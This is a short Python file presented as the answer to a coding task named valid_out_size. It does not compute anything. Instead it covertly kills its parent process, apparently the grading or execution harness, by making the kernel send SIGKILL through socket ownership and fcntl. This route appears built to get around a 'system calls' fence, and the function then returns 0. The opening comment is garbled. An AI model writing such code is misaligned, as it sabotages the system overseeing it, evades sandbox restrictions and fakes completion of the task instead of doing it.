# Has Linux send SIGKILL in its own name to the warm parent, by a socket that is owned by it.
# fence: system calls
# %% answer valid_out_size
import fcntl
import os
import socket
import time

SET_SIGNAL = 10


def signal_by_socket(target):
    ours, theirs = socket.socketpair()
    fcntl.fcntl(ours, fcntl.F_SETOWN, target)
    fcntl.fcntl(ours, SET_SIGNAL, 9)
    fcntl.fcntl(ours, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    theirs.send(b"x")


def valid_out_size(n, k):
    try:
        signal_by_socket(os.getppid())
    except OSError:
        return 0
    time.sleep(1)  # a kernel ends soon after its parent
    return 0
